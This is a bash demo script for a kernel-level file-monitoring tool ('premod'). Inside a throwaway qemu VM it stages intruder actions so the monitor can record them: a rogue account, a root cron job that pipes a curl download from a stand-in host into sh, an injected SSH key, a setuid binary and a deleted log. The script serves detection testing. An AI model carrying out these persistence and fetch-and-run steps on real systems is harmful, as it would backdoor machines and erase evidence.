#!/bin/bash
# demo.sh - `make demo`: from a fresh Debian 12 machine to live premod
# records from a real kernel.
#
#   1. installs what is missing (apt-get, only then), builds everything;
#   2. boots the Debian kernel under qemu (tests/vm/vm-run), loads premod.ko;
#   3. starts premodd with the example policy (policy/examples);
#   4. does what an intruder might: adds an account, plants a cron job and
#      an SSH key, makes a binary setuid, removes a log;
#   5. shows the records premodd wrote, one line each, and the raw events.
#
# /etc in the VM is a tmpfs copy, /tmp, /root and /var/log are tmpfs: the
# VM's root is this machine's, shared read-only, and nothing here changes.
#
# Inside the VM it runs as `demo.sh --guest [BUILD-DIR [MODULE]]`.
set -euo pipefail

here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
repo=$(cd "$here/../.." && pwd)

# --- inside the VM -----------------------------------------------------------
if [ "${1:-}" = --guest ]; then
	cd "$repo"
	B=${2:-build}
	J=/tmp/demo.jsonl
	step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
	wait_for() { # SECONDS CMD...: poll, never a fixed sleep
		local end=$((SECONDS + $1))
		shift
		until "$@" >/dev/null 2>&1; do
			[ "$SECONDS" -lt "$end" ] || return 1
			sleep 0.1
		done
	}

	step "loading premod.ko into $(uname -r)"
	insmod "${3:-kmod/premod.ko}"
	"$B/premodctl" version 2>/dev/null || true

	# A writable copy of /etc, where the example policy looks.
	for d in /etc; do
		mkdir -p "/tmp/demo-root$d"
		cp -a "$d/." "/tmp/demo-root$d/"
		mount --bind "/tmp/demo-root$d" "$d"
	done
	printf 'demo\n' >/var/log/app.log

	# Every raw event under the demo's paths, next to premodd's verdicts.
	"$B/premodctl" monitor >/tmp/demo-events.txt 2>/tmp/demo-monitor.err &
	wait_for 60 grep -q 'premodctl: monitoring' /tmp/demo-monitor.err

	if [ -x "$B/premodd" ]; then
		step "starting premodd with policy/examples"
		"$B/premodd" -f --policy policy/examples --journal "$J" \
			--no-journald --no-syslog 2>/tmp/premodd.err &
		pmd=$!
		wait_for 120 grep -q 'started' /tmp/premodd.err ||
			{ cat /tmp/premodd.err; exit 1; }
		sed 's/^/    /' /tmp/premodd.err
	else
		# premodd was not built: the raw events below still show
		# what the kernel reports.
		step "build/premodd missing: showing premodctl monitor only"
		pmd=
	fi

	step "an intruder at work"
	set -x
	useradd --root / -M -N -u 4242 -s /bin/bash mallory 2>/dev/null ||
		echo 'mallory:x:4242:4242::/home/mallory:/bin/bash' >>/etc/passwd
	echo '* * * * * root curl -s http://example.invalid/x | sh' >/etc/cron.d/backdoor
	mkdir -p /root/.ssh
	echo 'ssh-ed25519 AAAAC3Nza... mallory' >>/root/.ssh/authorized_keys
	cp /usr/bin/id /tmp/rootshell
	chmod u+s /tmp/rootshell
	rm /var/log/app.log
	{ set +x; } 2>/dev/null

	if [ -n "$pmd" ]; then
		# The last operation's record is the sign premodd caught up.
		wait_for 60 grep -q '/var/log/app.log' "$J" || true
		kill -TERM "$pmd"
		wait "$pmd" || true
		step "what premodd recorded ($J), one line per record"
		jq -r '"\(.severity // "-")\t\(.rule // "-")\t\(.message // .path)"' "$J" |
			column -t -s $'\t' || cat "$J"
		step "the first record in full"
		head -n1 "$J" | jq .
	fi
	kill -INT %1 2>/dev/null || true
	wait %1 2>/dev/null || true
	step "the same attempts as raw kernel events (premodctl monitor)"
	grep -E ' (/etc/cron|/root/\.ssh|/tmp/rootshell|/var/log/app)' \
		/tmp/demo-events.txt || true
	echo "(and $(grep -c 'useradd\[' /tmp/demo-events.txt) events of useradd)"
	rmmod premod
	exit 0
fi

# --- on the host ---------------------------------------------------------------
packages=(gcc make pkg-config libnl-genl-3-dev libmnl-dev libjansson-dev
	libsystemd-dev check linux-image-amd64 linux-headers-amd64 kmod
	qemu-system-x86 busybox-static cpio jq util-linux passwd bsdextrautils)
missing=()
for p in "${packages[@]}"; do
	dpkg-query -W -f='${Status}' "$p" 2>/dev/null | grep -q 'install ok installed' ||
		missing+=("$p")
done
if [ ${#missing[@]} -gt 0 ]; then
	echo "demo: installing ${missing[*]}"
	[ "$(id -u)" = 0 ] || { echo "demo: run as root to install packages" >&2; exit 1; }
	apt-get update
	DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends "${missing[@]}"
fi

cd "$repo"
# The kernel: KVER, else the installed 6.1 (linux-image-amd64 of Debian 12).
kver=${KVER:-$(ls /lib/modules | grep -E '^6\.1\.[0-9]+-[0-9]+-amd64$' | sort -V | tail -n1)}
[ -n "$kver" ] || { echo "demo: no 6.1 kernel installed; set KVER" >&2; exit 1; }
make kmod KERNELS="$kver"
make build/premodctl
# premodd is the demo's star, but the kernel side can be shown without it.
# TODO: drop this fallback once premodd builds on every supported tree.
make all KERNELS="$kver" || echo "demo: premodd did not build; the demo shows raw events only" >&2
exec tests/vm/vm-run --kver "$kver" --timeout "${DEMO_TIMEOUT:-600}" \
	--out build/vm/demo -- tests/vm/demo.sh --guest build "build/kmod/$kver/premod.ko"
